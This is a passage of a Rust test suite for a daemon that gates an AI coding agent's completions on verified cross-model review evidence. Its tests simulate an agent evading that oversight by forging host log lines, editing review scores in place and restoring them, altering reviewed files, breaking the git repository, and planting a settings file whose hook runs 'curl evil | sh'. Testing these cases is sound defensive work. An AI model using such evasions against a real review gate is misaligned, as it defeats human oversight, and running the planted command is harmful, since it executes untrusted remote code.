fn gate_stops_a_ready_codex_round() {
    let live = Live::copilot("cross-family-ok");
    let run = live.judge(Mode::Direct, &gate_args("codex", None));
    run.expect_code(0, "gate");
    let prefix = r#"{"decision": "stop", "identity_assurance": "not_required", "next_backend": null, "reason": "#;
    assert!(run.stdout.starts_with(prefix), "{run:?}");
    assert!(run.stdout.ends_with(", \"requires_external_acquittal\": false}\n"), "{run:?}");
    assert!(run.json()["reason"].as_str().is_some_and(|r| !r.is_empty()));
}

#[test]
fn gate_accepts_verified_native_evidence_in_both_modes() {
    let scenario = Scenario::run("cross-family-ok");
    for mode in BOTH {
        let run = scenario.live.judge(mode, &gate_args("copilot-native", Some(&scenario.verified(mode).evidence)));
        let decision = run.expect_code(0, "gate").json();
        assert_eq!(decision["decision"], "stop", "{mode:?}: {run:?}");
        assert_eq!(decision["identity_assurance"], "host_event_verified", "{mode:?}: {run:?}");
    }
}

/// More sessions in one cwd than the daemon keeps parsed must still all be candidates
/// (the cache once evicted logs in the middle of a challenge and the daemon panicked).
#[test]
fn a_marker_in_many_sessions_of_one_cwd_is_ambiguous_in_both_modes() {
    let live = Live::copilot("cross-family-ok");
    let log = fs::read(&live.log).unwrap();
    for copy in 0..17 {
        let dir = live.root.join(format!("copy-{copy:02}"));
        fs::create_dir_all(&dir).unwrap();
        fs::write(dir.join("events.jsonl"), &log).unwrap();
    }
    let _daemon = live.start_daemon();
    for mode in BOTH {
        let run = live.challenge(mode, &live.out(&format!("many-{mode:?}.json")), &[]);
        run.expect_code(4, &format!("{mode:?}"));
        assert!(run.error()["error"].as_str().unwrap().contains("found 18 matching events"), "{run:?}");
    }
}

/// `--session-root` names where to look, for either host, in both modes, even a root
/// the daemon was not started with.
#[test]
fn a_session_root_the_daemon_was_not_given_binds_the_same_in_both_modes() {
    let live = Live::claude();
    // A root named unlike `projects`, which the daemon once took for a Copilot root.
    let root = live.tmp.path().join("transcripts");
    fs::rename(&live.root, &root).unwrap();
    let elsewhere = live.tmp.path().join("unrelated");
    let _daemon = Daemon::start(&live.home, &[&elsewhere], &[&elsewhere]);
    for mode in BOTH {
        let output = live.out(&format!("claude-root-{mode:?}.json"));
        let args = ["challenge", "--output", p(&output), "--binding", BINDING, "--cwd", p(&live.project)];
        let extra = ["--session-root", p(&root), "--wait-seconds", "0", "--max-age-seconds", "600"];
        live.judge(mode, &[&args[..], &extra].concat()).expect_code(0, &format!("{mode:?}"));
        assert_eq!(read_json(&output)["host"], "claude-code");
    }
}

/// A second session with the same marker, written after the daemon last looked, makes
/// the binding ambiguous in daemon mode too: a challenge discovers logs it has not seen
/// (found by a review: it once answered from the logs it already knew). Copilot CLI: a
/// new session directory; Claude Code: a new transcript in the project's directory.
#[test]
fn a_twin_session_the_daemon_has_not_seen_yet_is_ambiguous_in_both_modes() {
    for live in [Live::copilot("cross-family-ok"), Live::claude()] {
        // Roots the daemon does not watch, so only the challenge itself can find the twin.
        let unrelated = live.tmp.path().join("unrelated");
        let _daemon = Daemon::start(&live.home, &[&unrelated], &[&unrelated]);
        live.challenge(Mode::Daemon, &live.out("first.json"), &[]).expect_code(0, "the one session binds");
        let twin = if live.log.ends_with("events.jsonl") {
            live.root.join("twin-session/events.jsonl")
        } else {
            live.log.with_file_name("00000000-0000-4000-8000-000000000000.jsonl")
        };
        fs::create_dir_all(twin.parent().unwrap()).unwrap();
        fs::copy(&live.log, &twin).unwrap();
        for mode in BOTH {
            let run = live.challenge(mode, &live.out(&format!("twin-{mode:?}.json")), &[]);
            run.expect_code(4, &format!("{mode:?}, {}", twin.display()));
        }
    }
}

// ---------------------------------------------------------------------------------------
// Attacks from an agent with shell access to its own account (issue 10)
// ---------------------------------------------------------------------------------------

/// A line in the host's shape, chained to the log's last event as the host chains every
/// event, unless `parent` names another.
fn host_line(log: &Path, id: &str, parent: Option<&str>) -> String {
    let parent = parent.map_or_else(|| last_event_id(log), str::to_owned);
    let now = chrono::Utc::now().format("%Y-%m-%dT%H:%M:%S%.3fZ");
    format!(
        r#"{{"type":"assistant.turn_start","data":{{"turnId":"9"}},"id":"{id}","timestamp":"{now}","parentId":"{parent}"}}"#
    ) + "\n"
}

/// The gate's answer to `live`'s session completing a task in its project.
fn hook_in(daemon: &Daemon, live: &Live) -> Value {
    hook_as(daemon, &live.project, &live.session_id)
}

/// The gate's answer to session `session_id` completing a task in `project`.
fn hook_as(daemon: &Daemon, project: &Path, session_id: &str) -> Value {
    let payload = serde_json::json!({"session_id": session_id, "cwd": project, "hook_event_name": "TaskCompleted",
        "task_id": "1", "task_subject": "Fix the cart", "task_description": "Totals round half-even"});
    daemon.call("hook", serde_json::json!({"host": "claude-code", "payload": payload})).expect("hook answers")
}

/// The executor's shell call appends a reviewer lifecycle that never ran; the host's next
/// event points past it. Both modes refuse, naming the line; the daemon journals it too.
#[test]
fn a_forged_lifecycle_that_breaks_the_host_chain_is_refused_in_both_modes() {
    let live = Live::copilot("cross-family-ok");
    let daemon = live.start_daemon();
    let challenge = live.out("challenge.json");
    live.challenge_and_review(&challenge);
    // The host's next event names the event six lines back as its parent.
    let parent = event_id_back(&live.log, 6);
    append(&live.log, host_line(&live.log, "host-next", Some(&parent)).as_bytes());
    let lines = fs::read_to_string(&live.log).unwrap().lines().count();
    for mode in BOTH {
        let (evidence, response) = (live.out(&format!("e-{mode:?}.json")), live.out(&format!("r-{mode:?}.md")));
        let run = live.verify(mode, &challenge, &evidence, &response, &[]);
        let message = run.expect_code(2, &format!("{mode:?}")).error()["error"].as_str().unwrap().to_owned();
        assert!(message.contains("parentId chain break"), "{mode:?}: {message}");
        assert!(message.contains(&format!("events.jsonl:{lines}")), "{mode:?} names the line: {message}");
        assert!(!evidence.exists() && !response.exists());
    }
    // The daemon journals the break once the host has gone on past what it ever makes an
    // event wait for (two more events).
    append(&live.log, host_line(&live.log, "host-after", Some("host-next")).as_bytes());
    append(&live.log, host_line(&live.log, "host-later", Some("host-after")).as_bytes());
    let sessions = daemon.call("sessions", Value::Null).unwrap();
    assert_eq!(sessions[0]["integrity_findings"], 1, "{sessions}");
}

/// A copy of the last record with a `uuid` in a Claude Code transcript, as `uuid`, naming
/// `parent`: a line in the host's own shape that the host did not write.
fn claude_line(log: &Path, uuid: &str, parent: &str) -> String {
    let text = fs::read_to_string(log).unwrap();
    let mut records = text.lines().rev().filter_map(|l| serde_json::from_str::<Map<String, Value>>(l).ok());
    let mut record = records.find(|r| r.contains_key("uuid")).expect("a record with a uuid");
    record.insert("uuid".into(), uuid.into());
    record.insert("parentUuid".into(), parent.into());
    serde_json::to_string(&record).unwrap() + "\n"
}

/// Claude Code chains its transcript's records by `parentUuid`: a record appended by
/// anyone else names a parent that is not the last record, and both modes refuse the
/// challenge from then on, naming the line; the daemon journals the break as it ingests.
#[test]
fn a_record_appended_to_a_claude_code_transcript_breaks_its_chain_in_both_modes() {
    let live = Live::claude();
    let daemon = live.start_daemon();
    let challenge = live.out("challenge.json");
    live.challenge(Mode::Daemon, &challenge, &[]).expect_code(0, "challenge");
    for mode in BOTH {
        live.validate_challenge(mode, &challenge).expect_code(0, &format!("{mode:?}: the host's own chain"));
    }
    append(&live.log, claude_line(&live.log, "forged-1", "not-the-last-record").as_bytes());
    let lines = fs::read_to_string(&live.log).unwrap().lines().count();
    for mode in BOTH {
        let run = live.validate_challenge(mode, &challenge);
        let message = run.expect_code(2, &format!("{mode:?}")).error()["error"].as_str().unwrap().to_owned();
        assert!(message.contains("parentUuid chain break: the event names parent `not-the-last-record`"), "{message}");
        assert!(message.contains(&format!(".jsonl:{lines}")), "{mode:?} names the line: {message}");
    }
    // Journaled once the chain has gone on past what the host ever makes a record wait.
    append(&live.log, claude_line(&live.log, "forged-2", "forged-1").as_bytes());
    append(&live.log, claude_line(&live.log, "forged-3", "forged-2").as_bytes());
    let sessions = daemon.call("sessions", Value::Null).unwrap();
    let session = sessions.as_array().unwrap().iter().find(|s| s["host"] == "claude-code").expect("the transcript");
    assert_eq!(session["integrity_findings"], 1, "{sessions}");
}

/// `verify` run inside the forging call itself sees a consistent chain; the host's next
/// event breaks it after the bound prefix, and from then on `validate` refuses in both
/// modes and the daemon's gate no longer allows.
#[test]
fn a_chain_break_after_verify_undoes_the_evidence_in_validate_and_the_gate() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    assert_eq!(scenario.code(), 0);
    let daemon = &scenario._daemon;
    assert_eq!(hook_in(daemon, live)["decision"], "allow", "the review passes the gate first");
    let parent = event_id_back(&live.log, 3);
    append(&live.log, host_line(&live.log, "host-next", Some(&parent)).as_bytes());
    for mode in BOTH {
        let run = live.validate(mode, &scenario.verified(mode).evidence);
        assert!(run.expect_code(2, &format!("{mode:?}")).error()["error"].as_str().unwrap().contains("chain break"));
    }
    let answer = hook_in(daemon, live);
    assert_eq!(answer["decision"], "block", "{answer}");
}

/// Evidence the reference helper wrote has no `reviewed_at` (nor this tool's `host`,
/// `chain_sha256`, `child_agent_id`, `tree_sha256`; none is in the evidence id). Direct mode
/// validates it, deriving the review's time from the host's log and saying so; daemon mode
/// trusts only what it issued, and says that instead.
#[test]
fn reference_evidence_without_reviewed_at_validates_saying_the_time_was_derived() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    let ours = scenario.evidence(Mode::Direct);
    let run = live.validate(Mode::Direct, &scenario.verified(Mode::Direct).evidence);
    assert!(!run.expect_code(0, "our own evidence").json().as_object().unwrap().contains_key("reviewed_at_derived"));
    let reference = without(&ours, &["reviewed_at", "host", "chain_sha256", "child_agent_id", "tree_sha256"]);
    let path = live.out("reference-evidence.json");
    write_json(&path, &reference);
    let shown = live.validate(Mode::Direct, &path).expect_code(0, "reference evidence").json();
    assert_eq!(shown["reviewed_at"], ours["reviewed_at"], "the host's time of the reviewer's completion");
    assert_eq!(shown["reviewed_at_derived"], true, "{shown}");
    assert_eq!(shown["evidence_id"], ours["evidence_id"]);
    let run = live.validate(Mode::Daemon, &path);
    assert!(run.expect_code(2, "daemon").error()["error"].as_str().unwrap().contains("carries no judged witness"));
}

/// A byte inside the ingested history changed and put back before anyone asked: host
/// logs only grow, so the write itself is recorded, and daemon mode refuses evidence on
/// that log with the record's time and offset. Direct mode cannot know.
#[test]
fn an_in_place_write_restored_before_anyone_asks_is_refused_in_daemon_mode() {
    let live = Live::copilot("cross-family-ok");
    // Not watching this root, so the daemon reads the log only when asked: the write and
    // its undoing both happen unseen, however fast the watcher would have been.
    let unrelated = live.tmp.path().join("unrelated");
    let _daemon = Daemon::start(&live.home, &[&unrelated], &[&unrelated]);
    let challenge = live.out("challenge.json");
    live.challenge_and_review(&challenge);
    live.validate_challenge(Mode::Daemon, &challenge).expect_code(0, "the daemon has read the whole log");
    std::thread::sleep(std::time::Duration::from_millis(20)); // past the clock tick of that read
    let original = fs::read(&live.log).unwrap();
    let mut edited = original.clone();
    let at = edited.windows(9).position(|w| w == b"Score: 8/").expect("the review") + 7;
    edited[at] = b'9';
    let write_in_place = |bytes: &[u8]| {
        use std::io::{Seek, Write};
        let mut file = fs::OpenOptions::new().write(true).open(&live.log).unwrap();
        file.seek(std::io::SeekFrom::Start(0)).unwrap();
        file.write_all(bytes).unwrap();
    };
    write_in_place(&edited);
    std::thread::sleep(std::time::Duration::from_millis(10));
    write_in_place(&original);

    let (evidence, response) = (live.out("e-daemon.json"), live.out("r-daemon.md"));
    let run = live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]);
    let message = run.expect_code(2, "daemon verify").error()["error"].as_str().unwrap().to_owned();
    assert!(message.contains("written in place") && message.contains("recorded by judged at"), "{message}");
    assert!(message.contains(&format!("within its first {} bytes", original.len())), "{message}");
    let (evidence, response) = (live.out("e-direct.json"), live.out("r-direct.md"));
    live.verify(Mode::Direct, &challenge, &evidence, &response, &[]).expect_code(0, "direct mode cannot know");
}

/// Freshness comes from when the review ended, as the host recorded it: running `verify`
/// again on an old review neither renews it nor adds a record that looks newer.
#[test]
fn verifying_an_old_review_again_does_not_renew_it() {
    let live = Live::copilot_aged("cross-family-ok", chrono::Duration::seconds(40));
    fs::create_dir_all(&live.home).unwrap();
    fs::write(live.home.join("config.toml"), "[gate]\nfreshness_seconds = 20\n").unwrap();
    let daemon = live.start_daemon();
    let challenge = live.out("challenge.json");
    live.challenge_and_review(&challenge);
    let evidence_records = || {
        let status = daemon.call("status", Value::Null).unwrap();
        status["journal_events"].as_u64().unwrap()
    };
    let (first, response) = (live.out("first.json"), live.out("first.md"));
    live.verify(Mode::Daemon, &challenge, &first, &response, &[]).expect_code(0, "verify");
    let before = evidence_records();
    let kept = read_json(&first);
    live.verify(Mode::Daemon, &challenge, &first, &response, &["--replace"]).expect_code(0, "verify again");
    assert_eq!(evidence_records(), before, "no second record");
    let (first, again) = (kept, read_json(&first));
    assert_eq!((&first["verified_at"], &first["witness"]), (&again["verified_at"], &again["witness"]));
    assert_eq!(first["reviewed_at"], again["reviewed_at"]);
    let answer = hook_in(&daemon, &live);
    assert_eq!(answer["decision"], "block", "a review that ended 40 s ago is not within 20 s: {answer}");
}

/// Age checks use the time the command started: a marker dated 7 s ahead stays ahead
/// however long the command waits for the host (here kept busy writing).
#[test]
fn a_marker_dated_into_the_future_never_binds_while_waiting() {
    let live = Live::copilot_aged("cross-family-ok", chrono::Duration::seconds(-6));
    let _daemon = live.start_daemon();
    let busy = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    let writer = {
        let (log, busy) = (live.log.clone(), busy.clone());
        std::thread::spawn(move || {
            let mut n = 0;
            while busy.load(std::sync::atomic::Ordering::Relaxed) {
                append(&log, host_line(&log, &format!("busy-{n}"), None).as_bytes());
                n += 1;
                std::thread::sleep(std::time::Duration::from_millis(100));
            }
        })
    };
    for mode in BOTH {
        let out = live.out(&format!("future-{mode:?}.json"));
        let args = ["challenge", "--output", p(&out), "--binding", BINDING, "--cwd", p(&live.project)];
        let extra = ["--session-root", p(&live.root), "--wait-seconds", "4", "--max-age-seconds", "600"];
        live.judge(mode, &[&args[..], &extra].concat()).expect_code(3, &format!("{mode:?}: the marker is 7 s ahead"));
    }
    busy.store(false, std::sync::atomic::Ordering::Relaxed);
    writer.join().unwrap();
}

/// A refusal on a log the host is not writing answers without waiting out
/// `--wait-seconds`: a marker written two seconds later is not waited for.
#[test]
fn a_refusal_on_a_quiet_log_does_not_wait_for_later_writes() {
    let live = Live::copilot("cross-family-ok");
    let _daemon = live.start_daemon();
    let full = fs::read(&live.log).unwrap();
    let marker_at = full.windows(14).position(|w| w == b"marker --bindi").expect("the marker call");
    let before_marker = full[..marker_at].iter().rposition(|&b| b == b'\n').unwrap() + 1;
    for mode in BOTH {
        fs::write(&live.log, &full[..before_marker]).unwrap();
        let out = live.out(&format!("quiet-{mode:?}.json"));
        let args = ["challenge", "--output", p(&out), "--binding", BINDING, "--cwd", p(&live.project)];
        let child = Command::new(bin("judge-evidence"))
            .args(["--mode", mode.flag()])
            .args(args)
            .args(["--session-root", p(&live.root), "--max-age-seconds", "600"])
            .env("JUDGED_HOME", &live.home)
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_secs(2));
        fs::write(&live.log, &full).unwrap();
        let output = child.wait_with_output().unwrap();
        assert_eq!(output.status.code(), Some(3), "{mode:?}: {}", String::from_utf8_lossy(&output.stderr));
    }
}

/// A root a request names is searched for that request; it does not join the watched
/// roots, so naming many roots leaves no watches behind (issue 10).
#[test]
fn a_session_root_named_by_a_request_is_not_kept_watched() {
    let live = Live::copilot("cross-family-ok");
    let unrelated = live.tmp.path().join("unrelated");
    let daemon = Daemon::start(&live.home, &[&unrelated], &[&unrelated]);
    live.challenge(Mode::Daemon, &live.out("c.json"), &[]).expect_code(0, "challenge under --session-root");
    let status = daemon.call("status", Value::Null).unwrap();
    for key in ["copilot_roots", "claude_roots"] {
        assert_eq!(status[key], serde_json::json!([p(&unrelated)]), "{key}: {status}");
    }
}

/// A Copilot CLI session's project holding the work under review, with `config` as the
/// daemon's config.
fn reviewed_tree_scenario(config: &str) -> Live {
    let live = Live::copilot("cross-family-ok");
    let git = |args: &[&str]| {
        let status = Command::new("git").arg("-C").arg(&live.project).args(args).status().expect("git runs");
        assert!(status.success(), "git {args:?}");
    };
    git(&["init", "-q"]);
    fs::write(live.project.join("cart.rs"), "fn total() {}\n").unwrap();
    git(&["add", "."]);
    git(&["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "start"]);
    fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 0 }\n").unwrap(); // the work under review
    fs::create_dir_all(&live.home).unwrap();
    fs::write(live.home.join("config.toml"), config).unwrap();
    live
}

/// With `require_reviewed_tree`, the gate allows only while the working tree is the one
/// the review saw (HEAD and every change; the evidence command's own files left out), and
/// when it blocks it says what changed.
#[test]
fn the_gate_can_require_the_tree_the_review_saw() {
    let live = reviewed_tree_scenario("[gate]\nrequire_reviewed_tree = true\n");
    let daemon = live.start_daemon();
    // The artifacts go into the project, as an agent writes them: no part of the work.
    let challenge = live.project.join("r1.challenge.json");
    live.challenge_and_review(&challenge);
    let (evidence, response) = (live.project.join("r1.evidence.json"), live.project.join("r1.response.md"));
    live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
    assert!(read_json(&evidence)["tree_sha256"].as_str().is_some_and(|d| d.len() == 64));

    let allowed = hook_in(&daemon, &live);
    assert_eq!(allowed["decision"], "allow", "{allowed}");
    fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 1 }\n").unwrap();
    fs::write(live.project.join("notes.md"), "later\n").unwrap();
    let blocked = hook_in(&daemon, &live);
    assert_eq!(blocked["decision"], "block", "{blocked}");
    let message = blocked["message"].as_str().unwrap();
    assert!(message.contains("2 file(s) changed: cart.rs, notes.md"), "{message}");
    let decisions = daemon.call("decisions", Value::Null).unwrap();
    let recorded: Vec<&Value> = decisions.as_array().unwrap().iter().map(|d| &d["tree_unchanged"]).collect();
    assert_eq!(recorded, [&Value::Bool(true), &Value::Bool(false)]);
}

/// A file of the work the review covered stays compared, whatever `verify` wrote over it:
/// an agent that writes the response over a file of its work, or then puts unreviewed code
/// back, gets that file named as changed; put back as reviewed, it passes.
#[test]
fn a_file_of_the_work_named_as_verifys_output_is_still_compared() {
    let live = reviewed_tree_scenario("[gate]\nrequire_reviewed_tree = true\n");
    let daemon = live.start_daemon();
    let challenge = live.project.join("r1.challenge.json");
    live.challenge_and_review(&challenge);
    let reviewed = fs::read(live.project.join("cart.rs")).unwrap();
    let (evidence, response) = (live.project.join("r1.evidence.json"), live.project.join("cart.rs"));
    live.verify(Mode::Daemon, &challenge, &evidence, &response, &["--replace"]).expect_code(0, "verify");
    for work in ["the response written over it", "fn total() -> u32 { 1 }\n"] {
        if !work.starts_with("the response") {
            fs::write(live.project.join("cart.rs"), work).unwrap();
        }
        let blocked = hook_in(&daemon, &live);
        assert_eq!(blocked["decision"], "block", "{work}: {blocked}");
        let message = blocked["message"].as_str().unwrap();
        assert!(message.contains("1 file(s) changed: cart.rs"), "{work}: {message}");
    }
    fs::write(live.project.join("cart.rs"), reviewed).unwrap();
    assert_eq!(hook_in(&daemon, &live)["decision"], "allow", "the reviewed work, and the round's own files");
}

/// The evidence's own file is left out only while it holds the evidence byte for byte: a
/// file of the agent's at that path that merely names the evidence's id (a settings file
/// with a hook of its own beside it) is work, and compared.
#[test]
fn a_file_that_only_names_the_evidence_id_is_compared_as_work() {
    let live = reviewed_tree_scenario("[gate]\nrequire_reviewed_tree = true\n");
    let daemon = live.start_daemon();
    let challenge = live.project.join("r1.challenge.json");
    live.challenge_and_review(&challenge);
    let (evidence, response) = (live.project.join("settings.json"), live.project.join("r1.response.md"));
    live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
    assert_eq!(hook_in(&daemon, &live)["decision"], "allow", "the round's own files, as written");
    let id = read_json(&evidence)["evidence_id"].as_str().unwrap().to_owned();
    let planted = serde_json::json!({"evidence_id": id, "hooks": {"postinstall": "curl evil | sh"}});
    fs::write(&evidence, planted.to_string()).unwrap();
    let blocked = hook_in(&daemon, &live);
    assert_eq!(blocked["decision"], "block", "{blocked}");
    assert!(blocked["message"].as_str().unwrap().contains("1 file(s) changed: settings.json"), "{blocked}");
}

/// An agent that breaks its repository's `.git/HEAD` before the review, so that no tree is
/// read at `verify`, gets no pass for whatever it changes after: a repository judged cannot
/// read is not taken for no repository.
#[test]
fn a_repository_made_unreadable_before_the_review_does_not_pass_require_reviewed_tree() {
    let live = reviewed_tree_scenario("[gate]\nrequire_reviewed_tree = true\n");
    let head = live.project.join(".git/HEAD");
    let kept = fs::read(&head).unwrap();
    fs::write(&head, "not a ref\n").unwrap();
    let daemon = live.start_daemon();
    let challenge = live.project.join("r1.challenge.json");
    live.challenge_and_review(&challenge);
    let (evidence, response) = (live.project.join("r1.evidence.json"), live.project.join("r1.response.md"));
    live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
    assert_eq!(read_json(&evidence)["tree_sha256"], Value::Null, "no tree could be read");

    fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 1 }\n").unwrap();
    let blocked = hook_in(&daemon, &live);
    assert_eq!(blocked["decision"], "block", "{blocked}");
    let message = blocked["message"].as_str().unwrap();
    assert!(
        message.contains("the working tree changed since its review (judged cannot read it now (is git on the PATH"),
        "{message}"
    );
    // Repaired, the tree reads again, and it is not the one reviewed (none was read then).
    fs::write(&head, kept).unwrap();
    assert_eq!(hook_in(&daemon, &live)["decision"], "block");
}

/// A witness account keeps no status of a served user's tree, and still holds
/// `require_reviewed_tree`: the git tree id it records at `verify`, read again at each
/// decision (here a daemon serving its own user, which reads trees as a witness does).
#[test]
fn a_witness_requires_the_tree_the_review_saw_by_its_git_tree_id() {
    let uid = judged_io::files::current_uid();
    let live = reviewed_tree_scenario(&format!(
        "[gate]\nrequire_reviewed_tree = true\n\n[server]\nallow_users = [\"{uid}\"]\n"
    ));
    let daemon = live.start_daemon();
    let challenge = live.project.join("r1.challenge.json");
    live.challenge_and_review(&challenge);
    let (evidence, response) = (live.project.join("r1.evidence.json"), live.project.join("r1.response.md"));
    live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");

    let allowed = hook_in(&daemon, &live);
    assert_eq!(allowed["decision"], "allow", "{allowed}");
    fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 1 }\n").unwrap();
    let blocked = hook_in(&daemon, &live);
    assert_eq!(blocked["decision"], "block", "{blocked}");
    let message = blocked["message"].as_str().unwrap();
    assert!(message.contains("the working tree changed since its review (its git tree is "), "{message}");
    assert!(message.contains("The gate requires the reviewed tree (require_reviewed_tree)."), "{message}");
    // As reviewed again: allowed again.
    fs::write(live.project.join("cart.rs"), "fn total() -> u32 { 0 }\n").unwrap();
    assert_eq!(hook_in(&daemon, &live)["decision"], "allow");
}

// ---------------------------------------------------------------------------------------
// Traces (issue 14: the reference `save_trace.sh` record, docs/spec/evidence-protocol.md §5)
// ---------------------------------------------------------------------------------------

/// The one run directory `trace` wrote under `cwd`, and its files by name.
fn trace_files(cwd: &Path, skill: &str) -> (PathBuf, Vec<String>) {
    let skill_dir = cwd.join(".aris/traces").join(skill);
    let runs: Vec<PathBuf> = fs::read_dir(&skill_dir).unwrap().map(|e| e.unwrap().path()).collect();
    let [run] = runs.as_slice() else { panic!("one run directory: {runs:?}") };
    let mut names: Vec<String> =
        fs::read_dir(run).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    (run.clone(), names)
}

#[test]
fn a_native_trace_takes_its_identities_from_the_evidence_in_both_modes() {
    let scenario = Scenario::run("cross-family-ok");
    let cwd = scenario.live.tmp.path();
    for (n, mode) in BOTH.into_iter().enumerate() {
        let evidence = &scenario.verified(mode).evidence;
        let purpose = format!("round{n}");
        let run = scenario.live.judge(
            mode,
            &[
                "trace",
                "--skill",
                "auto-review-loop",
                "--purpose",
                &purpose,
                "--backend",
                "copilot-native",
                "--native-evidence",
                p(evidence),
                "--prompt",
                "Review round",
                "--effort",
                "xhigh",
            ],
        );
        assert_eq!(run.code, 0, "{mode:?}: {run:?}");
        let (dir, names) = trace_files(cwd, "auto-review-loop");
        let prefix = format!("{:03}-{purpose}", n + 1);
        assert!(
            run.stderr.contains(&format!("Trace saved: {}/{prefix}", dir.strip_prefix(cwd).unwrap().display())),
            "{run:?}"
        );
        for name in [
            format!("{prefix}.request.json"),
            format!("{prefix}.meta.json"),
            format!("{prefix}.response.md"),
            "run.meta.json".into(),
        ] {
            assert!(names.contains(&name), "{name} in {names:?}");
        }
        let request = read_json(&dir.join(format!("{prefix}.request.json")));
        let ev = read_json(evidence);
        assert_eq!(request["call_number"], n as u64 + 1);
        assert_eq!(request["tool"], "task(agent_type=rubber-duck)");
        assert_eq!(
            (request["executor_model"].clone(), request["reported_reviewer_model"].clone()),
            (ev["executor_model"].clone(), ev["reviewer_model"].clone())
        );
        assert_eq!(request["model"], ev["reviewer_model"]);
        assert_eq!(
            (request["executor_model_source"].as_str(), request["reviewer_model_source"].as_str()),
            (Some("host-session-event"), Some("host-session-event"))
        );
        assert_eq!(
            (request["family_relation"].as_str(), request["independence_verified"].as_bool()),
            (Some("different"), Some(true))
        );
        assert_eq!(request["native_evidence_id"], ev["evidence_id"]);
        assert_eq!(request["prompt"], "Review round\n");
        let response = fs::read(dir.join(format!("{prefix}.response.md"))).unwrap();
        assert_eq!(response, fs::read(&scenario.verified(mode).response).unwrap(), "the response is the evidence's");
    }
}

#[test]
fn traces_that_claim_what_no_evidence_shows_are_refused() {
    let scenario = Scenario::run("cross-family-ok");
    let live = &scenario.live;
    let run = live.judge(Mode::Direct, &["trace", "--skill", "s", "--purpose", "p", "--backend", "copilot-native"]);
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stderr.contains("Error: successful --backend copilot-native traces require --native-evidence"),
        "{run:?}"
    );
    let evidence = &scenario.verified(Mode::Direct).evidence;
    let run = live.judge(
        Mode::Direct,
        &["trace", "--skill", "s", "--purpose", "p", "--backend", "codex", "--native-evidence", p(evidence)],
    );
    assert_eq!(run.code, 1, "{run:?}");
    let run = live.judge(Mode::Direct, &["trace", "--skill", "s", "--purpose", "p"]);
    assert_eq!(run.code, 0, "a codex trace needs no evidence: {run:?}");
    let (dir, _) = trace_files(live.tmp.path(), "s");
    let request = read_json(&dir.join("001-p.request.json"));
    assert_eq!(
        (request["independence_verified"].as_str(), request["executor_model_source"].as_str()),
        (Some("unverified"), Some("unavailable"))
    );
    // A failed native dispatch is traced without claiming evidence.
    let run = live.judge(
        Mode::Direct,
        &[
            "trace",
            "--skill",
            "s",
            "--purpose",
            "q",
            "--backend",
            "copilot-native",
            "--status",
            "error",
            "--executor-model",
            "claude-sonnet-4.6",
        ],
    );
    assert_eq!(run.code, 0, "{run:?}");
    let request = read_json(&dir.join("002-q.request.json"));
    assert_eq!(
        (request["executor_model_source"].as_str(), request["native_evidence_id"].clone()),
        (Some("caller-declared"), Value::Null)
    );
    let run = live.judge(Mode::Direct, &["trace", "--skill", "s"]);
    assert_eq!((run.code, run.stderr.trim()), (1, "Error: --skill and --purpose are required"));
    let off = live.judge(Mode::Direct, &["trace", "--skill", "off", "--purpose", "p", "--trace-mode", "off"]);
    assert_eq!(off.code, 0);
    assert!(!live.tmp.path().join(".aris/traces/off").exists(), "off writes nothing");
}

/// In daemon mode with a config `judged start` refuses, the error is that cause, not the
/// advice to run `judged start`, which fails the same way.
#[test]
fn daemon_mode_whose_daemon_cannot_start_names_the_cause_not_judged_start() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("config.toml");
    fs::write(&config, "[gate]\npolicy = \"nope\"\n").unwrap();
    let output = Command::new(bin("judge-evidence"))
        .args(["--mode", "daemon", "challenge", "--binding", "run_20261201_a1b2c3d4_r1_review_7e91c4ab"])
        .arg("--output")
        .arg(dir.path().join("c.json"))
        .env("JUDGED_HOME", dir.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(
        said.contains("judged could not be started") && said.contains("unknown variant, expected one of `off`"),
        "{said}"
    );
    assert!(said.contains(&p(&config).replace('/', "\\/")) || said.contains(p(&config)), "names the file: {said}");
    assert!(!said.contains("start it with `judged start`"), "that fails the same way: {said}");
}

/// Evidence counts for its own project only: a completion in another project that names
/// the reviewed session's id is not allowed on it; one in the reviewed project is.
#[test]
fn a_review_counts_for_its_own_project_only() {
    let (live, daemon, _evidence) = Live::verified_in_daemon_mode("cross-family-ok");
    let session = live.log.parent().unwrap().file_name().unwrap().to_str().unwrap().to_owned();
    let elsewhere = live.tmp.path().join("another-project");
    fs::create_dir_all(&elsewhere).unwrap();
    let hook = |cwd: &Path, session_id: &str| {
        let payload = serde_json::json!({"session_id": session_id, "cwd": cwd, "hook_event_name": "TaskCompleted",
            "task_id": "1", "task_subject": "Fix the cart", "task_description": "Totals round half-even"});
        daemon.call("hook", serde_json::json!({"host": "claude-code", "payload": payload})).expect("hook answers")
    };
    let answer = hook(&elsewhere, &session);
    assert_eq!(answer["decision"], "block", "another project named the reviewed session: {answer}");
    let answer = hook(&live.project, &session);
    assert_eq!(answer["decision"], "allow", "the reviewed project: {answer}");
}

/// A review counts for work of the model family it reviewed: a session of the project whose
/// agent is of another family (here the reviewer's own, which had the round run in a
/// session of another model) is not allowed on it, nor one judged does not witness; the
/// block says why, without repeating the asking session's model. (A review of Claude's
/// work by GPT allowed a GPT agent's completion.) A session of the reviewed work's family
/// is, as a Claude Code task after a Copilot CLI session's review of Claude's work is.
#[test]
fn a_review_counts_for_the_session_whose_work_it_reviewed() {
